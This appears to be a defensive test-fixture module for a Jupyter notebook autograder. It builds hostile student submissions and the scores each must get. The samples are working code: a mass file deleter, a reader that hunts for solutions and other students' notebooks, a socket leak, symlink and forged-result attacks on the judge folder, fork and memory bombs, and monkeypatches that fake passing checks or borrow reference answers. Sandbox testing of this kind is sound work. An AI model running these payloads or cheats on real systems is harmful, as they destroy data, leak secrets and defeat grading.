"""The hostile and broken corpus (issue 6 item 8): submissions that attack or break the
grader, each with the outcome it must get. Graded in one batch by tests/test_hostile.py.

Most cases are lab ch03_add_mul_layers (10 points: mul_layer_test 3, add_layer_test 2,
apple_orange_graph_test 3, fanout_graph_test 2), built from the release notebook with the
reference answers ("reference") or the release stubs ("stub", which raise
NotImplementedError) plus one extra student cell, or with an altered answer.

``Case.expect`` is {test cell: points}; a cell left out is expected to score 0. With stub
answers every cheat must score 0 everywhere: no cheat earns a point. With the reference
answers and a harmless patch (a monkeypatch that does not change what the student's code
computes) the student keeps full marks: the grader judges what the code computes, so a
patched numpy or checker in the kernel neither helps nor hurts.

A cell after which the kernel is gone (it exited, crashed, ran out of time or printed
without end) stops the grading of that notebook: the test cells before it keep their
points, the ones after it are "not run" and score 0.
"""
from __future__ import annotations

import copy
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder import course_dir
from autograder.authoring import variants

LAB = "ch03_add_mul_layers"
MUL, ADD, APPLE, FANOUT = "mul_layer_test", "add_layer_test", "apple_orange_graph_test", "fanout_graph_test"
DIV = "div_layer_test"
FULL = {MUL: 3.0, ADD: 2.0, APPLE: 3.0, FANOUT: 2.0, DIV: 2.0}
NOTHING: dict[str, float] = {}



def upto(*cells: str) -> dict[str, float]:
    """Full points for these ch03 test cells, 0 for the others."""
    return {cell: FULL[cell] for cell in cells}


@dataclass
class Context:
    """Values only known when the test runs, substituted into a case's code as {name}."""

    def __post_init__(self):
        self.reversed_marker = self.solution_marker[::-1]

    repo: str = "/work/main"             # the course root (source/, release/)
    out_dir: str = "/tmp/graded"         # the grader's output folder (gradebook, feedback)
    other_notebook: str = "/tmp/x.ipynb"  # another student's submitted notebook
    port: int = 1                        # a listener on 127.0.0.1 that must get no connection
    solution_marker: str = "return x * y"  # solution text: in source/, not in release/
    reversed_marker: str = ""            # the same, reversed (a case's code must not show it)
    canary: str = "/tmp/canary"          # a folder of the test (root's) that must not change


@dataclass
class Case:
    student: str
    why: str                              # what it does, what must happen
    expect: dict[str, float]              # {test cell: points}; others 0
    answers: str = "reference"            # "reference", "stub" or a variant name of LAB
    extra: dict[str, str] = field(default_factory=dict)   # {answer grade_id: code of a cell after it}
    replace: dict[str, str] = field(default_factory=dict)  # {answer grade_id: new code}
    lab: str = LAB
    raw: str | None = None                # build the file with this builder (RAW_BUILDERS) instead
    problem: bool = False                 # the notebook cannot be graded (problem set, all 0)
    note: str = ""                        # a substring of the result's notes
    stopped: bool | None = False          # grading of the notebook stops early (a note says
                                          # why); None: either way


# ------------------------------------------------------------------ builders

def answers_for(kind: str, lab: str) -> dict[str, str] | None:
    source = course_dir.source_notebook(lab)
    if kind == "stub":
        return None
    if kind == "garbage":
        return dict(GARBAGE)
    code = course_dir.reference_answers(source)
    if kind != "reference":
        variant = variants.find(lab, kind)
        code[variant.cell] = variant.code
    return code


def build_notebook(case: Case, ctx: Context) -> nbformat.NotebookNode:
    release = course_dir.release_notebook(case.lab)
    code = answers_for(case.answers, case.lab)
    nb = release if code is None else course_dir.with_answers(release, code)
    nb = copy.deepcopy(nb)
    if case.replace:
        nb = course_dir.with_answers(nb, {k: _fill(v, ctx) for k, v in case.replace.items()})
    for grade_id, extra in case.extra.items():
        at = next(i for i, c in enumerate(nb.cells)
                  if course_dir.nbgrader_meta(c).get("grade_id") == grade_id)
        nb.cells.insert(at + 1, nbformat.v4.new_code_cell(_fill(extra, ctx)))
    return nb


def _fill(code: str, ctx: Context) -> str:
    for key, value in vars(ctx).items():
        code = code.replace("{" + key + "}", str(value))
    return code


def write_case(case: Case, ctx: Context, folder: Path) -> Path:
    """The submitted file of this case, at folder/STUDENT/LAB.ipynb."""
    path = folder / case.student / f"{case.lab}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    if case.raw:
        path.write_bytes(RAW_BUILDERS[case.raw](case, ctx))
    else:
        nbformat.write(build_notebook(case, ctx), path)
    return path


def _duplicated_test_cell(case: Case, ctx: Context) -> bytes:
    nb = build_notebook(Case(case.student, "", {}), ctx)
    at = next(i for i, c in enumerate(nb.cells) if course_dir.nbgrader_meta(c).get("grade_id") == MUL)
    nb.cells.insert(at + 1, copy.deepcopy(nb.cells[at]))   # copy-paste keeps grade_id (nbgrader #1083)
    nb.cells[at + 1].id = nb.cells[at].id + "x"
    return nbformat.writes(nb).encode()


def _stripped_metadata(case: Case, ctx: Context) -> bytes:
    nb = build_notebook(Case(case.student, "", {}), ctx)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    nb.metadata.pop("nbgrader", None)
    return nbformat.writes(nb).encode()


def _broken_json(case: Case, ctx: Context) -> bytes:
    text = nbformat.writes(build_notebook(Case(case.student, "", {}), ctx))
    return text[: len(text) // 2].encode()   # cut off half-way, as a failed upload does


def _empty(case: Case, ctx: Context) -> bytes:
    return b""


def _wrong_lab(case: Case, ctx: Context) -> bytes:
    nb = build_notebook(Case(case.student, "", {}, lab="ch04_activation_layers"), ctx)
    return nbformat.writes(nb).encode()


RAW_BUILDERS = {"duplicated_test_cell": _duplicated_test_cell, "stripped_metadata": _stripped_metadata,
                "broken_json": _broken_json, "empty": _empty, "wrong_lab": _wrong_lab}


# ------------------------------------------------------------------ the corpus

GARBAGE = {   # runs without an error and returns numbers, all wrong: what a cheat dresses up
    "mul_layer": "class MulLayer:\n    def forward(self, x, y):\n        return 0.0\n"
                 "    def backward(self, dout):\n        return 0.0, 0.0",
    "add_layer": "class AddLayer:\n    def forward(self, x, y):\n        return 0.0\n"
                 "    def backward(self, dout):\n        return 0.0, 0.0",
    "apple_orange_graph": "def apple_orange_graph(*args):\n    return 0.0, {k: 0.0 for k in "
                          "['apple', 'apple_num', 'orange', 'orange_num', 'tax']}",
    "fanout_graph": "def fanout_graph(a, b, c):\n    return 0.0, 0.0, 0.0, 0.0",
}

HARD_CODED_MUL = '''
class MulLayer:
    """Returns the book's numbers (the visible example), whatever the inputs."""
    def __init__(self):
        self.x = None
        self.y = None

    def forward(self, x, y):
        return {(10, 5): 50, (100, 2): 200, (150, 3): 450, (200, 1.1): 220.0,
                (450, 1.1): 495.0, (650, 1.1): 715.0}.get((x, y), 0)

    def backward(self, dout):
        return {1.3: (6.5, 13.0), 1: (1.1, 650)}.get(dout, (0, 0))
'''

WARNING_MUL = '''
import warnings
import numpy as np


class MulLayer:
    def __init__(self):
        self.x = None
        self.y = None

    def forward(self, x, y):
        warnings.warn("MulLayer.forward: remember to call backward after me")
        np.log(np.zeros(1))          # a numpy RuntimeWarning (divide by zero), on stderr
        self.x = x
        self.y = y
        return x * y

    def backward(self, dout):
        return dout * self.y, dout * self.x
'''

JUDGE_FORGER = '''
import glob, json, os, sys, threading, time
import numpy as np
RUNTIME = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])   # the kernel's connection folder

def forge():
    for _ in range(20000):
        for folder in glob.glob(RUNTIME + "/judge*") + glob.glob(RUNTIME + "/../*judge*/*"):
            try:
                with open(os.path.join(folder, "result.json"), "w") as f:
                    json.dump([[{"value": {"$array": 0}}]] * 8, f)
                np.savez(os.path.join(folder, "result.npz"), a0=np.asarray(50.0))
            except OSError:
                pass
        time.sleep(0.001)

threading.Thread(target=forge, daemon=True).start()
print("✓ all checks passed")
'''

JUDGE_SYMLINK = '''
import glob, os, sys
RUNTIME = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
# make the grader (root, outside the sandbox) write its judge files into a folder of its
# own (the test's canary; it could be the course's source/) or read files there
for runtime in [RUNTIME]:
    for name in ("judge",):
        path = os.path.join(runtime, name)
        try:
            if os.path.isdir(path) and not os.path.islink(path):
                os.rename(path, path + "-moved")
            os.symlink("{canary}", path)
        except OSError as error:
            print("symlink:", error)
print("planted")
'''

JUDGE_FILE_SYMLINKS = '''
import glob, os, sys, threading, time
RUNTIME = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
target = "{canary}/canary.txt"
def plant():
    for _ in range(5000):
        for folder in glob.glob(RUNTIME + "/judge*") + glob.glob(RUNTIME + "/../*judge*/*"):
            for name in ("program.json", "program.npz", "result.json", "result.npz"):
                path = os.path.join(folder, name)
                try:
                    if not os.path.islink(path):
                        if os.path.exists(path):
                            os.remove(path)
                        os.symlink(target, path)
                except OSError:
                    pass
        time.sleep(0.001)
threading.Thread(target=plant, daemon=True).start()
'''

# ---- borrowing the grader's answers (issue 12): a TwoLayerNet.gradient, patched in after the
# reference class, that looks for the correct gradients everywhere the kernel can reach.
# Under `grade` none is there (the sandbox holds no reference), so each one loses
# gradient_test and, training with what it found, train_test.
BORROW_TAIL = '''
    raise RuntimeError("nothing to borrow")

def _borrowed(self, x, t):
    try:
        return _find(self, x, t)
    except Exception:
        return {key: np.zeros_like(value) for key, value in self.params.items()}

TwoLayerNet.gradient = _borrowed
'''

BORROW_PROMISING = '''
def _promising(value):
    name = getattr(value, "__name__", "")
    return any(word in name.lower() for word in ("grad", "reference", "softmax", "loss"))
'''

BORROW_IMPORT = '''
import numpy as np

def _find(self, x, t):
    from autograder.judging.reference import trusted_namespace      # the grader's side
    return trusted_namespace("ch07_two_layer_net")["TwoLayerNet"].gradient(self, x, t)
''' + BORROW_TAIL

BORROW_MODULES = BORROW_PROMISING + '''
import sys
import numpy as np

def _find(self, x, t):
    """Every function of every loaded module that takes (params, x, t) and gives gradients."""
    for name, module in list(sys.modules.items()):
        if name == "__main__" or not name.startswith(("autograder", "__judge")):
            continue
        for value in list(vars(module).values()):
            if callable(value) and _promising(value):
                for args in ((self.params, x, t), (x, t), (self, x, t)):
                    try:
                        found = value(*args)
                    except Exception:
                        continue
                    if isinstance(found, dict) and set(found) >= {"W1", "b1", "W2", "b2"}:
                        return found
''' + BORROW_TAIL

BORROW_FRAMES = '''
import sys
import numpy as np

def _find(self, x, t):
    """Whatever dict of gradient-shaped arrays a caller of gradient holds."""
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and set(value) >= {"W1", "b1", "W2", "b2"} \\
                    and value is not self.params:
                return value
        frame = frame.f_back
''' + BORROW_TAIL

BORROW_FILES = BORROW_PROMISING + '''
import os
import numpy as np

def _find(self, x, t):
    """Run every mounted Python file and try each function it defines."""
    for root in ("/opt/grader", "/opt", os.path.expanduser("~")):
        for folder, _, names in os.walk(root):
            for name in names:
                if not name.endswith(".py"):
                    continue
                space = {"__name__": "borrowed"}
                try:
                    exec(open(os.path.join(folder, name)).read(), space)
                except Exception:
                    continue
                for value in space.values():
                    if callable(value) and _promising(value):
                        try:
                            found = value(self.params, x, t)
                        except Exception:
                            continue
                        if isinstance(found, dict) and set(found) >= {"W1", "b1", "W2", "b2"}:
                            return found
''' + BORROW_TAIL

NUMERICAL_GRADIENT = '''
import numpy as np

def _numerical(self, x, t):
    """The gradient by central differences of the loss (the provided helper)."""
    return {key: numerical_gradient(lambda _: self.loss(x, t), self.params[key])
            for key in ("W1", "b1", "W2", "b2")}

TwoLayerNet.gradient = _numerical
'''

DELETER = '''
import os, shutil
removed = 0
for top in ("/home/student", "/tmp", "/opt", "/work", "/etc"):
    for folder, dirs, files in os.walk(top):
        for name in files:
            try:
                os.remove(os.path.join(folder, name))
                removed += 1
            except OSError:
                pass
shutil.rmtree("/home/student", ignore_errors=True)
for path in ("/usr/evil.txt", "/usr/lib/evil.txt", "{repo}/source/evil.txt", "/etc/evil"):
    try:
        open(path, "w").write("pwned")
    except OSError as error:
        print("write", path, type(error).__name__)
print("removed", removed)
'''

READER = '''
import glob, os
marker = "{reversed_marker}"[::-1]   # not spelled out here: this cell is in the feedback
found = []
paths = ["../../source/ch03_add_mul_layers/ch03_add_mul_layers.ipynb",
         "{repo}/source/ch03_add_mul_layers/ch03_add_mul_layers.ipynb",
         "{repo}/autograder/authoring/variants/ch03_add_mul_layers.py",
         "{other_notebook}", "{out_dir}/results.json"]
paths += glob.glob("{out_dir}/**", recursive=True) + glob.glob("{repo}/*/*/*.ipynb")
paths += glob.glob("/tmp/**/*.ipynb", recursive=True) + glob.glob("/home/**/*.ipynb", recursive=True)
for path in paths:
    try:
        with open(path) as f:
            text = f.read()
        if marker in text:
            found.append(path)
            print(text)
    except OSError:
        pass
print("found", len(found))
'''

SOCKETS = '''
import socket
for host in ("127.0.0.1", "1.1.1.1"):
    for port in ({port}, 80):
        try:
            s = socket.create_connection((host, port), timeout=1)
            s.sendall(b"leak")
            print("connected", host, port)
        except OSError as error:
            print("no connection to", host, port, type(error).__name__)
'''

CHEATS = {   # each goes in a cell after the provided checker, so it can patch that too
    "np-allclose": "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True",
    "np-testing": "import numpy as np\nnp.testing.assert_allclose = lambda *a, **k: None\n"
                  "np.array_equal = lambda *a, **k: True",
    "check-close": 'check_close = lambda *a, **k: print("✓")',
    "checkfailed": ("class CheckFailed(Exception):\n    pass\nimport builtins\nbuiltins.CheckFailed = CheckFailed\n"
                    "import autograder.checks.runtime as common\ncommon.CheckFailed = type('X', (Exception,), {})\n"
                    "common.expect_close = lambda *a, **k: None"),
    "import-game": ("import builtins\n_real = builtins.__import__\n"
                    "class _Anything:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
                    "def _fake(name, *a, **k):\n    if name.startswith('autograder'):\n        return _Anything()\n"
                    "    return _real(name, *a, **k)\nbuiltins.__import__ = _fake"),
    "print": "import builtins\nbuiltins.print = lambda *a, **k: None",
    "sys-exit": "import sys, os\nsys.exit = lambda *a, **k: None\nos._exit = lambda *a, **k: None",
    "assert": ("import builtins\nAssertionError = type('AssertionError', (Exception,), {})\n"
               "builtins.AssertionError = AssertionError\n__builtins__.AssertionError = AssertionError"),
    "fake-success": 'print("✓ all checks passed\\nThis cell: 3 / 3 points (passed)")',
    "swallow-errors": ("import sys\nfrom IPython import get_ipython\n"
                       "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: print('✓ all checks passed'))\n"
                       "sys.excepthook = lambda *a: None"),
}
HARMLESS = ["np-allclose", "np-testing", "check-close", "print", "sys-exit", "assert", "fake-success"]
CHEAT_ANCHOR = "provided_numerical_gradient"   # the last provided cell, after the checker

AFTER_ALL = "fanout_graph"   # an answer cell after which an extra cell runs before a test cell


def corpus() -> list[Case]:
    cases = [
        # ---- honest students, in the same batch
        Case("honest-perfect", "the reference answers", dict(FULL)),
        Case("honest-mul-not-swapped", "MulLayer.backward does not swap: only add_layer_test "
             "and div_layer_test (DivLayer does not use MulLayer)",
             upto(ADD, DIV), answers="mul_not_swapped"),
        Case("honest-ch01", "lab ch01, reference answers",
             {"apple_orange_forward_test": 2.0, "evaluate_graph_test": 3.0, "local_derivatives_test": 3.0},
             lab="ch01_computational_graph"),
        Case("honest-ch04", "lab ch04, reference answers",
             {"relu_test": 3.0, "sigmoid_test": 3.0, "tanh_test": 2.0, "softplus_test": 3.0},
             lab="ch04_activation_layers"),
        # ---- borrowing the answers instead of writing them (ch07: gradient 4, sgd_step 2,
        # train 3, gradient_check 3, weight_decay 3): nothing to borrow in the sandbox, a
        # numerical gradient is refused
        *[Case(f"borrow-{how}", f"TwoLayerNet.gradient borrowed from {where}: it finds nothing, "
               "so gradient_test, train_test and weight_decay_test (built on it) lose their "
               "points (train may run out of time searching: then nothing after it runs)",
               {"sgd_step_test": 2.0, "gradient_check_test": 3.0}, lab="ch07_two_layer_net",
               extra={"gradient": code}, stopped=None)
          for how, where, code in [
              ("import", "the grader's side (import autograder.judging)", BORROW_IMPORT),
              ("modules", "every function of sys.modules", BORROW_MODULES),
              ("frames", "its callers' frames", BORROW_FRAMES),
              ("files", "every mounted Python file", BORROW_FILES)]],
        Case("numerical-gradient", "TwoLayerNet.gradient by numerical differences of the loss: "
             "refused by gradient_test's judge; training with it runs out of time",
             {"sgd_step_test": 2.0}, lab="ch07_two_layer_net",
             extra={"gradient": NUMERICAL_GRADIENT}, stopped=True),

        # ---- time
        Case("loop-forever", "`while True: pass` after apple_orange_graph: stopped at the cell "
             "timeout, later cells not run", upto(MUL, ADD),
             extra={"apple_orange_graph": "while True:\n    pass"}, stopped=True),
        Case("sleep-forever", "time.sleep(10**6) after fanout_graph", upto(MUL, ADD, APPLE),
             extra={"fanout_graph": "import time\ntime.sleep(10**6)"}, stopped=True),
        Case("loop-ignores-interrupt", "SIGINT ignored, then a busy loop: the kernel cannot be "
             "interrupted, only killed", upto(MUL),
             extra={"add_layer": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                 "while True:\n    pass"}, stopped=True),
        Case("loop-in-c", "a long computation in C that holds the GIL (no interrupt reaches it)",
             upto(MUL, ADD, APPLE), extra={"fanout_graph": "x = 7 ** (7 ** 11)"}, stopped=True),
        Case("slow-but-finishes", "a cell that takes 2 s, under the 5 s timeout", dict(FULL),
             extra={"mul_layer": "import time\ntime.sleep(2)"}),

        # ---- memory
        Case("memory-bombs", "bytearray(10**11), then np.ones((10**6, 10**6)): a MemoryError in "
             "each of those cells only", dict(FULL),
             extra={"mul_layer": "x = bytearray(10**11)",
                    "add_layer": "import numpy as np\nx = np.ones((10**6, 10**6))"}),
        Case("memory-growing-list", "a list growing until memory runs out, inside a function",
             dict(FULL), extra={"apple_orange_graph":
                                "def grow():\n    xs = []\n    while True:\n        xs.append(bytearray(2**26))\n"
                                "try:\n    grow()\nfinally:\n    import gc; gc.collect()"}),

        # ---- processes
        Case("fork-bomb", "os.fork() in a loop: the process limit stops it, no process is left",
             upto(MUL, ADD, APPLE),
             extra={"fanout_graph": "import os\nwhile True:\n    os.fork()"}, stopped=None),
        Case("popen-bomb", "subprocess.Popen in a loop: the process limit raises an error in "
             "that cell, the kernel goes on; no process is left", dict(FULL),
             extra={"fanout_graph": "import subprocess\nps = []\nwhile True:\n"
                                    "    ps.append(subprocess.Popen(['sleep', '987654']))"}, stopped=None),

        # ---- output and exits
        Case("huge-output", "prints without end: stopped at the output budget", upto(MUL, ADD),
             extra={"apple_orange_graph": "while True:\n    print('x' * 1000)"}, stopped=True),
        Case("os-exit", "os._exit(0) after add_layer: kernel gone, later cells not run",
             upto(MUL), extra={"add_layer": "import os\nos._exit(0)"}, stopped=True),
        Case("segfault", "ctypes.string_at(0) after apple_orange_graph", upto(MUL, ADD),
             extra={"apple_orange_graph": "import ctypes\nctypes.string_at(0)"}, stopped=True),
        Case("sys-exit", "sys.exit(0), then raise SystemExit: IPython catches SystemExit, the "
             "notebook goes on", dict(FULL),
             extra={"mul_layer": "import sys\nsys.exit(0)", "add_layer": "raise SystemExit"}),
        Case("exit-builtin", "exit() in the last cell: the kernel shuts down after the tests ran "
             "(when it stops is up to ipykernel, so it goes last)", dict(FULL),
             extra={FANOUT: "exit()"}, stopped=None),

        # ---- files, network
        Case("deleter", "deletes what it can reach, writes to /usr and source/: nothing outside "
             "the sandbox changes", dict(FULL), extra={"mul_layer": DELETER}),
        Case("reader", "reads ../../source, the repo's source/, the out dir, another student's "
             "notebook: none of them is there (stub answers: its feedback must not show the "
             "solution)", NOTHING, answers="stub", extra={"mul_layer": READER}),
        Case("sockets", "connects to 127.0.0.1 (a listener of the test) and 1.1.1.1: no network",
             dict(FULL), extra={"mul_layer": SOCKETS}),
        Case("judge-dir-symlink", "replaces the judge folder with a symlink into source/: the "
             "grader must not write there, and the student gains nothing", NOTHING, answers="stub",
             extra={"mul_layer": JUDGE_SYMLINK}),
        Case("judge-file-symlinks", "plants symlinks to source/ where the judge files go",
             NOTHING, answers="stub", extra={"mul_layer": JUDGE_FILE_SYMLINKS}),
        Case("fake-judge-result", "a thread keeps writing forged result files into the judge "
             "folder, and prints a fake success", NOTHING, answers="stub",
             extra={"mul_layer": JUDGE_FORGER}),

        # ---- answers that only look right
        Case("hard-coded-example", "MulLayer returns the book's numbers only: 0 for its cell "
             "(and for the graphs, which work on other inputs too)", upto(ADD, DIV),
             replace={"mul_layer": HARD_CODED_MUL}),
        Case("warnings", "correct code that warns on stderr (warnings.warn, numpy RuntimeWarning): "
             "full marks (stock nbgrader would give 0 for stderr)", dict(FULL),
             replace={"mul_layer": WARNING_MUL}),

        # ---- broken files
        Case("duplicated-test-cell", "a copy-pasted test cell (nbgrader #1083): graded normally",
             dict(FULL), raw="duplicated_test_cell"),
        Case("after-duplicate", "the student graded right after the duplicate: unaffected",
             dict(FULL)),
        Case("stripped-metadata", "all nbgrader metadata removed: repaired from the release, "
             "graded, with a note", dict(FULL), raw="stripped_metadata", note="metadata"),
        Case("broken-json", "the file is cut off half-way: a problem, 0, a note", NOTHING,
             raw="broken_json", problem=True),
        Case("empty-file", "an empty file: a problem, 0", NOTHING, raw="empty", problem=True),
        Case("wrong-lab", "a ch04 notebook submitted as ch03: a problem, 0", NOTHING,
             raw="wrong_lab", problem=True),
    ]
    # ---- every monkeypatch: with answers that run but compute garbage, each earns
    # nothing (the visible checks may be fooled, the grader's judge is not); with the
    # reference answers, patches that change nothing the code computes keep full marks
    for name, code in CHEATS.items():
        cases.append(Case(f"cheat-{name}", f"{name} with wrong answers: 0 everywhere", NOTHING,
                          answers="garbage", extra={CHEAT_ANCHOR: code}))
    cases.append(Case("patch-harmless", "the harmless patches with the reference answers: full "
                      "marks", dict(FULL), extra={CHEAT_ANCHOR: "\n".join(CHEATS[n] for n in HARMLESS)}))
    return cases
